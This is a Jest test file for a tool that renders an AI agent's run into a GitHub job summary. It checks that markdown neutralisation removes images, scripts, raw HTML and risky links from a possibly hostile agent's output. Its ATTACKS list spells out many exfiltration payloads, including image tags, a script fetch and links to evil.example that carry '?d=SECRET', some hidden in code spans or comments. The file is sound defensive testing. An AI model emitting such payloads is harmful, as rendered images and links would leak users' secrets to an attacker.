/**
 * The neutralised final message as GitHub would turn it into HTML: rendered by a GFM parser that
 * keeps raw HTML (GitHub sanitises afterwards, but lets <img> and <a> through, which is what
 * carries data out), then searched for what must not be there.
 */
import { describe, expect, it } from '@jest/globals';
import rehypeRaw from 'rehype-raw';
import rehypeStringify from 'rehype-stringify';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';
import { TranscriptBuilder } from '../__fixtures__/transcripts.js';
import { factsOf } from '../src/report/facts.js';
import { neutraliseMarkdown } from '../src/report/markdown.js';
import { renderSummary } from '../src/report/summary.js';

const toHtml = (markdown: string): string =>
  String(
    unified()
      .use(remarkParse)
      .use(remarkGfm)
      .use(remarkRehype, { allowDangerousHtml: true })
      .use(rehypeRaw)
      .use(rehypeStringify)
      .processSync(markdown),
  );

/** Every way an attacker's final message tries to load a URL, run script, or link out with data. */
const ATTACKS = [
  '![x](https://evil.example/p.png?d=SECRET)',
  '![x](data:image/png;base64,AAAA)',
  '<img src="https://evil.example/p.png?d=SECRET">',
  '<IMG SRC=https://evil.example/p.png>',
  '<picture><source srcset="https://evil.example/p.png?d=SECRET"></picture>',
  '<script>fetch("https://evil.example/?d=SECRET")</script>',
  '<a href="https://evil.example/?d=SECRET">click</a>',
  '[click](https://evil.example/?d=SECRET)',
  '[click](https://evil.example/#SECRET)',
  '[click](http://evil.example/)',
  '[click][ref]\n\n[ref]: https://evil.example/?d=SECRET',
  '![x][ref]\n\n[ref]: https://evil.example/p.png',
  'https://evil.example/?d=SECRET',
  'www.evil.example/?d=SECRET',
  '<https://evil.example/?d=SECRET>',
  '[![x](https://evil.example/p.png)](https://evil.example/?d=SECRET)',
  'a `b\n<img src=https://evil.example/p.png>` c',
  '`x` ` <img src=https://evil.example/p.png> ``y``',
  '- `a\n- <img src=https://evil.example/p.png>`',
  '```\n<img src=https://evil.example/p.png>\n',
  '  ```\n<img src=https://evil.example/p.png>\n    ```',
  '> ```\n> x\n<img src=https://evil.example/p.png>',
  '<details open><summary>x</summary>\n\n![x](https://evil.example/p.png)\n</details>',
  '<!-- <img src=https://evil.example/p.png> -->',
  '&lt;img src=x&gt; and &#60;img src=https://evil.example/p.png&#62;',
];

describe('the neutralised final message, rendered as GitHub would', () => {
  it.each(ATTACKS)('has no image, script, risky link or raw HTML: %j', (attack) => {
    const html = toHtml(neutraliseMarkdown(attack));
    expect(html).not.toMatch(/<(img|script|picture|source|iframe|details)\b/i);
    for (const [, href] of html.matchAll(/<a [^>]*href="([^"]*)"/g)) {
      expect(href).toMatch(/^https:\/\/[^?#]*$/);
    }
    // No element carries the secret in an attribute; as text it is harmless.
    expect(html).not.toMatch(/<[a-z]+ [^>]*SECRET/i);
  });

  it('keeps the plain markdown a final message is made of', () => {
    const html = toHtml(
      neutraliseMarkdown(
        '# Done\n\n- **fixed** `Map<string>`\n- see [docs](https://docs.github.com/actions)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x: Array<T> = [];\n```',
      ),
    );
    expect(html).toContain('<h4>Done</h4>');
    expect(html).toContain('<strong>fixed</strong>');
    expect(html).toContain('<a href="https://docs.github.com/actions">docs</a>');
    expect(html).toContain('<table>');
    expect(html).toMatch(/<code class="language-ts">const x: Array&#x3C;\u200bT> = \[\];/);
  });
});

describe('the whole job summary of a hostile run, rendered as GitHub would', () => {
  it('has no image, script or risky link wherever the attack is put: task, commands, outputs, errors, final text', () => {
    const attack = ATTACKS.join('\n');
    const builder = new TranscriptBuilder(attack)
      .exchange(attack)
      .command(attack, attack, { exitCode: 1 })
      .denied(attack, 'no-matching-pattern', attack)
      .command(ATTACKS[2]!, attack, { timedOut: true, exitCode: null });
    builder.event({ type: 'error', message: attack });
    builder.event({ type: 'notice', level: 'warning', message: attack });
    builder.event({ type: 'undone', changes: ATTACKS });
    const html = toHtml(renderSummary(factsOf(builder.result('error', attack, attack))));

    expect(html).not.toMatch(/<(img|script|picture|source|iframe)\b/i);
    const hrefs = [...html.matchAll(/<a [^>]*href="([^"]*)"/g)].map((match) => match[1]);
    expect(hrefs.filter((href) => !/^https:\/\/[^?#]*$/.test(href!))).toEqual([]);
    expect(html).not.toMatch(/<[a-z]+ [^>]*SECRET/i);
    // The report's own structure survives: every block it opened is closed where it meant to.
    expect(html.match(/<details>/g)?.length).toBe(html.match(/<\/details>/g)?.length);
  });
});

describe('commands in the summary, rendered as GitHub would', () => {
  it('are code, copied as typed: no link, no mention, no inserted character, the pipe kept', () => {
    const command = 'curl -s https://api.example.com/x?y=1 | grep -c @octocat <b>';
    const events = new TranscriptBuilder()
      .command(command, '1\n')
      .command('sleep 200', '', { timedOut: true, exitCode: null }, 120_000)
      .denied(command, 'no-matching-pattern', command)
      .result('success', 'Done.');
    const summary = renderSummary(factsOf(events));
    expect(summary).not.toContain('\u200b');
    const html = toHtml(summary);
    const codes = [...html.matchAll(/<code>([^<]*(?:<(?!\/code>)[^<]*)*)<\/code>/g)].map(
      (m) => m[1],
    );
    const shown = 'curl -s https://api.example.com/x?y=1 | grep -c @octocat &#x3C;b>';
    // In the table, in the denial's line and in the collapsed block's title.
    expect(codes.filter((code) => code === shown).length).toBeGreaterThanOrEqual(3);
    expect(html).not.toMatch(/<a [^>]*href="https:\/\/api\.example\.com/);
    expect(html).not.toContain('<b>');
  });
});
